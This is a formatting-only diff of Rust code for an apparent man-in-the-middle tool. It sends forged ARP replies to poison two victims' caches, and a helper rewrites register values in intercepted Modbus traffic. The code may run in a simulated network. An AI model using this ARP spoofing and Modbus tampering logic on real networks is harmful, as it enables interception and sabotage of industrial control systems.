@@ -120,9 +120,19 @@ impl MitmApp {
         // switch would learn the victims' MACs on our port and blackhole
         // their traffic (exactly how real arpspoof performs its re-ARP).
         let to_a = ArpPacket::reply(mac_b, self.plan.victim_b, mac_a, self.plan.victim_a);
-        ctx.send_frame(EthernetFrame::new(mac_a, my_mac, ethertype::ARP, to_a.encode()));
+        ctx.send_frame(EthernetFrame::new(
+            mac_a,
+            my_mac,
+            ethertype::ARP,
+            to_a.encode(),
+        ));
         let to_b = ArpPacket::reply(mac_a, self.plan.victim_a, mac_b, self.plan.victim_b);
-        ctx.send_frame(EthernetFrame::new(mac_b, my_mac, ethertype::ARP, to_b.encode()));
+        ctx.send_frame(EthernetFrame::new(
+            mac_b,
+            my_mac,
+            ethertype::ARP,
+            to_b.encode(),
+        ));
     }
 
     fn transform_payload(&self, packet: &Ipv4Packet) -> Option<Vec<u8>> {
@@ -175,11 +185,9 @@ fn rewrite_modbus_registers(stream: &[u8], f: impl Fn(u16) -> u16) -> Option<Vec
             if data_start + byte_count <= out.len() {
                 for chunk_start in (data_start..data_start + byte_count).step_by(2) {
                     if chunk_start + 1 < out.len() {
-                        let register =
-                            u16::from_be_bytes([out[chunk_start], out[chunk_start + 1]]);
+                        let register = u16::from_be_bytes([out[chunk_start], out[chunk_start + 1]]);
                         let rewritten = f(register);
-                        out[chunk_start..chunk_start + 2]
-                            .copy_from_slice(&rewritten.to_be_bytes());
+                        out[chunk_start..chunk_start + 2].copy_from_slice(&rewritten.to_be_bytes());
                         touched = true;
                     }
                 }
